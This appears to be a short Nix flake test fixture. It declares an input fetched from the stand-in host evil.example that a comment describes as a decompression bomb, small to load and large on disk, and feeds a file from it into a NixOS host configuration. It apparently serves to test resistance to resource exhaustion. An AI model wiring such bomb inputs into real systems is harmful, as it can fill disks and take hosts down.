# An input that is small to load and large on the disk; the test writes the lock.
{
  inputs.bomb = { url = "http://evil.example:8000/bomb.tar.gz"; flake = false; };
  outputs = { self, bomb }: {
    nixosConfigurations.host = import ../host.nix "host" { parameters = [ (builtins.readFile "${bomb}/x") ]; };
  };
}
